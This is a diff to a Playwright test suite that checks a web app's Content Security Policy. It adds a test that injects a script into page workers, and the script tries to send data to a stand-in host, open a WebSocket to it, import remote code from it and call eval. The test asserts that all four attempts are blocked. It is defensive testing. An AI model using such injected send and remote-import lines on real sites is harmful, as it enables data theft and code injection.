@@ -23,7 +23,8 @@ const WITHOUT_TRUSTED_TYPES = {
   'font from elsewhere': 'font-src',
   'frame, of this site too': 'frame-src',
   'object, of this site too': 'object-src',
-  'worker from text': 'worker-src',
+  // It runs, under the policy of the page: see below.
+  'worker from text': 'unstopped',
   'form, to this site too': 'form-action',
   'other base for addresses': 'base-uri',
 };
@@ -40,10 +41,12 @@ const STOPPED_BY = {
   'address of a worker elsewhere': TRUSTED_TYPES,
 };
 
+/** What this site or, in a blob, the page itself has written. */
+const own = (url: string) => /^(?:blob:)?http:\/\/localhost:/.test(url);
+
 /** What violating acts end as on a page, and every request to another site that the policy did not end. */
 async function tried(context: BrowserContext, address: string) {
   const sent: string[] = [];
-  const own = (url: string) => /^http:\/\/localhost:/.test(url);
   context.on('requestfinished', (request) => own(request.url()) || sent.push(request.url()));
   context.on('requestfailed', (request) => {
     if (!own(request.url()) && request.failure()?.errorText !== 'csp') sent.push(request.url());
@@ -70,6 +73,53 @@ test.describe('whatever tries to run or to send something is stopped', () => {
     const host = await startStaticHost((page) => page.replace(/; require-trusted-types-for .*?default/, ''));
     const stoppedBy = { ...WITHOUT_TRUSTED_TYPES, 'address of a worker elsewhere': 'SecurityError' };
     expect(await tried(context, host.address)).toEqual({ stoppedBy, sent: [] });
+    host.close();
+  });
+});
+
+const SEND = `(async () => {
+  const outcome = (act) => Promise.resolve().then(act).then(() => 'sent', ({ name }) => name);
+  const socket = () => new Promise((open, refuse) => {
+    const tried = new WebSocket('ws://elsewhere.example/');
+    tried.onopen = open;
+    tried.onerror = () => refuse(new Error());
+  });
+  return [
+    await outcome(() => fetch('http://elsewhere.example/?name=Kowalski', { mode: 'no-cors' })),
+    await outcome(socket),
+    await outcome(() => import('http://elsewhere.example/x.js')),
+    await outcome(() => eval('1')),
+    self.violations,
+  ];
+})()`;
+
+test.describe('on a host that sends no headers, before anything is stored', () => {
+  test.use({ serviceWorkers: 'block' });
+
+  test('every worker is under the policy: injected code neither sends nor connects', async ({ context }) => {
+    const host = await startStaticHost();
+    const sent: string[] = [];
+    context.on('requestfinished', (request) => own(request.url()) || sent.push(request.url()));
+    context.on('requestfailed', (request) => {
+      if (!own(request.url()) && request.failure()?.errorText !== 'csp') sent.push(request.url());
+    });
+    const page = await context.newPage();
+    await page.goto(host.address);
+    await expect(findings(page).first()).toBeVisible({ timeout: 40_000 });
+    expect(page.workers().length).toBeGreaterThan(0);
+    for (const worker of page.workers()) {
+      await worker.evaluate(() => {
+        const told = self as unknown as { violations: string[] };
+        told.violations = [];
+        self.addEventListener('securitypolicyviolation', (event) =>
+          told.violations.push((event as SecurityPolicyViolationEvent).effectiveDirective),
+        );
+      });
+      const [request, socket, program, text, violations] = (await worker.evaluate(SEND)) as string[];
+      expect([request, socket, program, text]).not.toContain('sent');
+      expect(violations).toEqual(expect.arrayContaining(['connect-src']));
+    }
+    expect(sent).toEqual([]);
     host.close();
   });
 });
